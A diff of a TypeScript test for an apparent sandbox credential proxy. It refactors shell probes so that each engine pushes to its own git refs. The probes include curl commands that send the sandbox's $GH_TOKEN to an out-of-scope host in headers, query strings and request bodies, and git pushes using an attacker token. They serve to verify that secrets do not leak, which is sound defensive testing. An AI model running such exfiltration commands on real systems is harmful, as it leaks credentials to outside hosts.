@@ -203,33 +203,38 @@ after(async () => {
   for (const dir of work) await rm(dir, { recursive: true, force: true });
 });
 
-/** Every probe of issue 6 in one sandbox run, then the canary dump, then a pause while the host inspects the run. */
-const PROBES = [
-  'echo surrogate=$GH_TOKEN',
-  `echo bearer=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" https://${API}/bearer)`,
-  `echo basic=$(curl -sS -u "x-access-token:$GH_TOKEN" https://${API}/basic)`,
-  `echo token_scheme=$(curl -sS -H "Authorization: token $GH_TOKEN" https://${API}/token-scheme)`,
-  `echo foreign=$(curl -sS -H "Authorization: Bearer ${ATTACKER}" https://${API}/foreign)`,
-  `echo dup_attacker_first=$(curl -sS -H "Authorization: Bearer ${ATTACKER}" -H "Authorization: Bearer $GH_TOKEN" https://${API}/dup-attacker-first)`,
-  `echo dup_surrogate_first=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" -H "Authorization: Bearer ${ATTACKER}" https://${API}/dup-surrogate-first)`,
-  `echo body_query=$(curl -sS "https://${API}/body?t=$GH_TOKEN" --data-binary "token=$GH_TOKEN")`,
-  `python3 /workspace/raw_headers.py ${ATTACKER}`,
-  `echo oos_bearer=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" https://${OTHER}/oos-bearer)`,
-  `echo oos_basic=$(curl -sS -u "x-access-token:$GH_TOKEN" "https://${OTHER}/oos-basic?t=$GH_TOKEN" --data-binary "$GH_TOKEN")`,
-  // git: the surrogate from a credential helper (after the 401 challenge), then as a preset Basic header the way
-  // actions/checkout configures it.
-  'export HOME=/tmp/home GIT_TERMINAL_PROMPT=0 GIT_AUTHOR_NAME=s GIT_AUTHOR_EMAIL=s@s GIT_COMMITTER_NAME=s GIT_COMMITTER_EMAIL=s@s',
-  'mkdir -p $HOME && printf "#!/bin/sh\\necho username=x-access-token\\necho password=\\$GH_TOKEN\\n" > $HOME/cred.sh && chmod +x $HOME/cred.sh',
-  'cd /tmp && git init -q -b main app && cd app && echo pushed > README && git add README && git commit -qm first',
-  'echo head=$(git rev-parse HEAD)',
-  `git -c credential.helper=$HOME/cred.sh push -q https://${GIT}/o/r.git main && echo push_helper=ok || echo push_helper=failed`,
-  `git -c http.extraHeader="Authorization: Basic $(printf x-access-token:%s "$GH_TOKEN" | base64 -w0)" push -q https://${GIT}/o/r.git HEAD:refs/heads/extra && echo push_header=ok || echo push_header=failed`,
-  `git push -q https://x-access-token:${ATTACKER}@${GIT}/o/r.git HEAD:refs/heads/attacker 2>/dev/null && echo push_attacker=ok || echo push_attacker=refused`,
-  'cd /',
-  canaryDumpScript(),
-  'touch /workspace/.canary-waiting',
-  'for i in $(seq 600); do [ -e /workspace/.canary-go ] && break; sleep 0.1; done',
-].join('\n');
+/**
+ * Every probe of issue 6 in one sandbox run, then the canary dump, then a pause while the host inspects the run.
+ * Each run pushes an unrelated history, so `branch` keeps the engines' runs on refs of their own.
+ */
+function probes(branch: string): string {
+  return [
+    'echo surrogate=$GH_TOKEN',
+    `echo bearer=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" https://${API}/bearer)`,
+    `echo basic=$(curl -sS -u "x-access-token:$GH_TOKEN" https://${API}/basic)`,
+    `echo token_scheme=$(curl -sS -H "Authorization: token $GH_TOKEN" https://${API}/token-scheme)`,
+    `echo foreign=$(curl -sS -H "Authorization: Bearer ${ATTACKER}" https://${API}/foreign)`,
+    `echo dup_attacker_first=$(curl -sS -H "Authorization: Bearer ${ATTACKER}" -H "Authorization: Bearer $GH_TOKEN" https://${API}/dup-attacker-first)`,
+    `echo dup_surrogate_first=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" -H "Authorization: Bearer ${ATTACKER}" https://${API}/dup-surrogate-first)`,
+    `echo body_query=$(curl -sS "https://${API}/body?t=$GH_TOKEN" --data-binary "token=$GH_TOKEN")`,
+    `python3 /workspace/raw_headers.py ${ATTACKER}`,
+    `echo oos_bearer=$(curl -sS -H "Authorization: Bearer $GH_TOKEN" https://${OTHER}/oos-bearer)`,
+    `echo oos_basic=$(curl -sS -u "x-access-token:$GH_TOKEN" "https://${OTHER}/oos-basic?t=$GH_TOKEN" --data-binary "$GH_TOKEN")`,
+    // git: the surrogate from a credential helper (after the 401 challenge), then as a preset Basic header the way
+    // actions/checkout configures it.
+    'export HOME=/tmp/home GIT_TERMINAL_PROMPT=0 GIT_AUTHOR_NAME=s GIT_AUTHOR_EMAIL=s@s GIT_COMMITTER_NAME=s GIT_COMMITTER_EMAIL=s@s',
+    'mkdir -p $HOME && printf "#!/bin/sh\\necho username=x-access-token\\necho password=\\$GH_TOKEN\\n" > $HOME/cred.sh && chmod +x $HOME/cred.sh',
+    'cd /tmp && git init -q -b main app && cd app && echo pushed > README && git add README && git commit -qm first',
+    'echo head=$(git rev-parse HEAD)',
+    `git -c credential.helper=$HOME/cred.sh push -q https://${GIT}/o/r.git main:refs/heads/${branch} && echo push_helper=ok || echo push_helper=failed`,
+    `git -c http.extraHeader="Authorization: Basic $(printf x-access-token:%s "$GH_TOKEN" | base64 -w0)" push -q https://${GIT}/o/r.git HEAD:refs/heads/${branch}-extra && echo push_header=ok || echo push_header=failed`,
+    `git push -q https://x-access-token:${ATTACKER}@${GIT}/o/r.git HEAD:refs/heads/${branch}-attacker 2>/dev/null && echo push_attacker=ok || echo push_attacker=refused`,
+    'cd /',
+    canaryDumpScript(),
+    'touch /workspace/.canary-waiting',
+    'for i in $(seq 600); do [ -e /workspace/.canary-go ] && break; sleep 0.1; done',
+  ].join('\n');
+}
 
 function byPath(upstream: RecordingUpstream, prefix: string) {
   return upstream.requests.filter((r) => r.url.startsWith(prefix));
@@ -253,7 +258,7 @@ for (const engine of ENGINES) {
       for (const f of ['.canary-waiting', '.canary-go']) await rm(path.join(workspace, f), { force: true });
       logDir = await mkdtemp(path.join(tmpdir(), 'airlock-cred-log-'));
       work.push(logDir);
-      const started = runInSandbox(engine, workspace, PROBES, {
+      const started = runInSandbox(engine, workspace, probes(engine), {
         env: { TEST_GH_TOKEN: REAL },
         extra: [...allOutputFlags(logDir)],
       });
@@ -295,9 +300,16 @@ for (const engine of ENGINES) {
       assert.equal(run.results.get('push_attacker'), 'refused');
       const bare = path.join(repos, 'o/r.git');
       const head = run.results.get('head');
-      assert.equal(execFileSync('git', ['--git-dir', bare, 'rev-parse', 'main']).toString().trim(), head);
-      assert.equal(execFileSync('git', ['--git-dir', bare, 'rev-parse', 'extra']).toString().trim(), head);
-      assert.throws(() => execFileSync('git', ['--git-dir', bare, 'rev-parse', '--verify', '-q', 'attacker']));
+      assert.equal(execFileSync('git', ['--git-dir', bare, 'rev-parse', engine]).toString().trim(), head);
+      assert.equal(
+        execFileSync('git', ['--git-dir', bare, 'rev-parse', `${engine}-extra`])
+          .toString()
+          .trim(),
+        head,
+      );
+      assert.throws(() =>
+        execFileSync('git', ['--git-dir', bare, 'rev-parse', '--verify', '-q', `${engine}-attacker`]),
+      );
       const seen = gitFront.authorizations.slice(gitBefore.n);
       assert.ok(seen.length >= 4, 'both pushes authenticated the ref advertisement and the pack upload');
       assert.deepEqual(new Set(seen), new Set([REAL_BASIC]), 'the git server only ever saw the real token');
